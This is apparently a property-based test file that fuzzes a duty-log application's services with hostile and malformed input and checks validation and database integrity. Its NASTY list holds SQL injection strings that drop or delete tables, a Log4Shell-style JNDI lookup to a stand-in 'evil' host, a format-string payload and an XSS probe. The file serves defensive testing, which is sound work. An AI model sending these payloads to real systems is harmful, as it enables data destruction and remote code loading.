"""Hostile and random input to every service that takes input.

Each call either succeeds and reads back exactly what was stored (the typed
text, trimmed and NFC-normalised, zero-width characters removed; names NFKC and
single-spaced), or raises ValidationError with a message, and then the database is
byte-for-byte the same as before the call.
"""

from __future__ import annotations

import sqlite3
import unicodedata
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any, TypeVar

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dutylog.domain.accounts.permissions import SYSTEM_ACTOR
from dutylog.domain.enums import DutyRole, EntryKind, Shift, UserRole
from dutylog.domain.errors import PermissionDenied, ValidationError
from dutylog.domain.log.records import NewLogEntry
from dutylog.domain.text import name_key, normalize_name, remove_zero_width
from dutylog.office import Office
from tests.services.accounts.conftest import PASSWORD

T = TypeVar("T")

NASTY = [
    "'; DROP TABLE log_entry; --",
    '" OR 1=1 --',
    "Robert'); DELETE FROM staff WHERE ('1'='1",
    "1; UPDATE audit_log SET hash=''",
    "%s%s%n%x",
    "${jndi:ldap://evil/x}",
    "<script>alert('x')</script>",
    "\x00",
    "巡查\x00微博",
    "\x1b[31m红色\x1b[0m",
    "a\x07b\x08c",
    "\ud800",
    "半个\udfff字符",
    "\U00020000\U0002a6a5\U00030edd\U000323af",  # rare CJK from extensions B, G, H
    "𠮷野家 𪚥",
    "\u202e倒序文字\u202c",
    "\ufeff带BOM",
    "😀👨‍👩‍👧",
    "　全角空格　",
    "",
    "   ",
    "\r\n\r\n",
    "第一行\r\n第二行\r第三行",
    "e\u0301",  # decomposed: stored NFC
    "字" * 1_000_000,
    "a" * 1_048_576,
    "\t缩进",
]
SURROGATES = st.characters(categories=("Cs",))
TEXT = st.one_of(
    st.sampled_from(NASTY),
    st.text(max_size=300),
    st.text(st.one_of(st.characters(), SURROGATES), max_size=40),
    st.text(st.characters(min_codepoint=0x20000, max_codepoint=0x323AF), max_size=30),
)
MOMENTS = st.one_of(
    st.none(),
    st.datetimes(min_value=datetime(1, 1, 1), max_value=datetime(9999, 12, 31, 23, 59, 59)),
    st.datetimes(min_value=datetime(2026, 1, 1), max_value=datetime(2026, 11, 18)),
    st.datetimes(timezones=st.just(UTC)),
)
DATES = st.one_of(st.dates(), st.dates(min_value=date(2025, 1, 1), max_value=date(2027, 12, 31)))
SETTINGS = settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def expected_text(typed: str) -> str:
    lines = typed.replace("\r\n", "\n").replace("\r", "\n").replace("\u2028", "\n").replace("\u2029", "\n")
    visible, _removed = remove_zero_width(lines.strip())  # the rule itself: tests/domain/test_text.py
    return unicodedata.normalize("NFC", visible.strip())


def expected_name(typed: str, *, identifier: bool = False) -> str:
    return normalize_name(typed, keep_fullwidth_punctuation=not identifier)


def dump(db: Path) -> list[str]:
    with sqlite3.connect(db) as conn:
        lines = list(conn.iterdump())
    conn.close()
    return lines


@pytest.fixture
def db(office: Office, db_path: Path) -> Iterator[Path]:
    office.staff.add("张伟", roles=(DutyRole.OFFICER,))
    office.log.add_entry(NewLogEntry(kind=EntryKind.PATROL, details={"sources": ["微博"]}, text="第一条"))
    yield db_path


def attempt(db: Path, call: Callable[[], T]) -> T | None:
    """Run ``call``; on ValidationError require a message and an unchanged database."""
    before = dump(db)
    try:
        return call()
    except ValidationError as exc:
        assert exc.message and exc.code
        assert dump(db) == before
        return None


@SETTINGS
@given(text=TEXT, when=MOMENTS)
def test_log_add_entry(office: Office, db: Path, text: str, when: datetime | None) -> None:
    entry = attempt(
        db, lambda: office.log.add_entry(NewLogEntry(kind=EntryKind.OTHER, text=text, occurred_at=when))
    )
    if entry is not None:
        assert entry.text == expected_text(text)
        assert office.log.get(entry.id) == entry


@SETTINGS
@given(text=TEXT)
def test_log_update_entry(office: Office, db: Path, text: str) -> None:
    current = office.log.get(1)
    entry = attempt(db, lambda: office.log.update_entry(1, text=text, expected_version=current.version))
    if entry is not None:
        assert office.log.get(1).text == expected_text(text)


@SETTINGS
@given(title=TEXT, summary=TEXT, source=TEXT, url=TEXT, found=MOMENTS, published=MOMENTS)
def test_matters_add(
    office: Office, db: Path, title: str, summary: str, source: str, url: str, found: Any, published: Any
) -> None:
    matter = attempt(
        db,
        lambda: office.matters.add(
            title, summary=summary, source=source, url=url, discovered_at=found, published_at=published
        ),
    )
    if matter is not None:
        with office.db.transaction() as store:
            stored = store.matters.get(matter.id)
        assert stored == matter
        assert (stored.title, stored.summary, stored.source, stored.url) == tuple(
            expected_text(t) for t in (title, summary, source, url)
        )


@SETTINGS
@given(name=TEXT, phone=TEXT, unit=TEXT, title=TEXT)
def test_staff_add_and_update(office: Office, db: Path, name: str, phone: str, unit: str, title: str) -> None:
    person = attempt(db, lambda: office.staff.add(name, phone=phone, unit=unit, title=title))
    if person is not None:
        assert office.staff.get(person.id) == person
        assert (person.name, person.unit_name, person.title) == (
            expected_name(name),
            expected_name(unit),
            expected_text(title),
        )
    first = office.staff.get(1)
    updated = attempt(
        db, lambda: office.staff.update(1, expected_version=first.version, name=name, title=title)
    )
    if updated is not None:
        assert office.staff.get(1) == updated and updated.name == expected_name(name)


@SETTINGS
@given(day=DATES, shift=st.sampled_from(list(Shift)), role=st.sampled_from(list(DutyRole)), note=TEXT)
def test_roster_assign(office: Office, db: Path, day: date, shift: Shift, role: DutyRole, note: str) -> None:
    slot = attempt(db, lambda: office.roster.assign(day, shift, role, 1, note=note))
    if slot is not None:
        assert slot in office.roster.between(day, day)


@SETTINGS
@given(name=TEXT)
def test_settings_unit_name(office: Office, db: Path, name: str) -> None:
    saved = attempt(db, lambda: office.settings.set_unit_name(name))
    if saved is not None:
        assert office.unit_name() == saved == expected_text(name)


@SETTINGS
@given(start=st.one_of(TEXT, st.times().map(str)), end=st.one_of(TEXT, st.times().map(str)))
def test_settings_working_hours(office: Office, db: Path, start: str, end: str) -> None:
    attempt(db, lambda: office.settings.set_working_hours(start, end))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(username=TEXT, password=TEXT)
def test_accounts_add_user_and_login(office: Office, db: Path, username: str, password: str) -> None:
    existing = {u.username for u in office.accounts.users()}
    user = attempt(db, lambda: office.accounts.add_user(username, UserRole.OFFICER, password))
    if user is not None:
        assert user.username == expected_name(username, identifier=True)
    try:
        actor = office.login(username, password)
    except PermissionDenied as exc:
        assert exc.message
    else:
        # Only an account that exists (made now or by an earlier example) lets anyone in.
        # Logins compare names by key: ADMIN finds admin (made by an earlier example).
        assert name_key(actor.username) == name_key(username)
        assert user is not None or actor.username in existing
    finally:
        office.act_as(SYSTEM_ACTOR)


@SETTINGS
@given(reason=TEXT)
def test_void_reason(office: Office, db: Path, reason: str) -> None:
    entry = office.log.add_entry(
        NewLogEntry(kind=EntryKind.PATROL, details={"sources": ["微博"]}, text="待作废")
    )
    mark = attempt(db, lambda: office.audit.void("log_entry", entry.id, reason))
    if mark is not None:
        assert office.audit.voided("log_entry", entry.id) == mark
        assert mark.reason == expected_text(reason)


def test_password_with_surrogate_is_refused(office: Office, db: Path) -> None:
    with pytest.raises(ValidationError):
        office.accounts.add_user("zhangsan", UserRole.OFFICER, PASSWORD + "\ud800")


def test_dates_out_of_range_are_refused_with_a_message(office: Office, db: Path) -> None:
    with pytest.raises(ValidationError, match="超出允许范围"):
        office.log.add_entry(
            NewLogEntry(
                kind=EntryKind.PATROL, details={"sources": ["微博"]}, text="x", occurred_at=datetime(1, 1, 1)
            )
        )
    with pytest.raises(ValidationError, match="超出允许范围"):
        office.roster.assign(date(9999, 12, 31), Shift.DAY, DutyRole.OFFICER, 1)
    with pytest.raises(ValidationError):
        office.matters.add("x", discovered_at=datetime.now() - timedelta(days=365 * 100))
